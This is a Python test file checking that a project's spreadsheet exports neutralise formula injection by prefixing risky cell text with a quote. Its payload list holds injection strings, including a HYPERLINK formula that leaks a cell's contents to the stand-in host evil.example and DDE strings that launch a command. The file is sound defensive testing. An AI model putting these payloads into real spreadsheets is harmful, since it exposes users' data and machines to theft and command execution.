"""Spreadsheet exports neutralise formula injection: text that a spreadsheet would run as a
formula is stored as inert text."""

import io

import pytest
from openpyxl import load_workbook

from binhdang.formats.cells import safe_cell_text

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_it_makes_formula_text_inert(payload):
    cleaned = safe_cell_text(payload)
    assert cleaned.startswith("'")
    assert cleaned[1:] == payload


def test_it_leaves_ordinary_text_and_numbers_alone():
    assert safe_cell_text("Xã Phú Linh") == "Xã Phú Linh"
    assert safe_cell_text(-2) == -2
    assert safe_cell_text(None) is None


def test_it_drops_control_characters_the_xlsx_format_cannot_store():
    assert safe_cell_text("a\x00b\x07c") == "abc"


def test_it_exports_a_formula_unit_name_as_text_in_the_completeness_workbook(world, login):
    from binhdang.reporting.tests.factories import make_round

    payload = '=HYPERLINK("http://evil.example","Nhấn")'
    world.commune_a.name = payload
    world.commune_a.save()
    reporting_round = make_round(world)
    response = login(world.standing_office).get(f"/rounds/{reporting_round.slug}/completeness.xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [c for row in workbook.active.iter_rows() for c in row if c.value is not None]
    hits = [c for c in cells if isinstance(c.value, str) and "evil.example" in c.value]
    assert hits, "the unit should be listed in the export"
    for cell in hits:
        assert cell.data_type == "s"
        assert cell.value.startswith("'=")
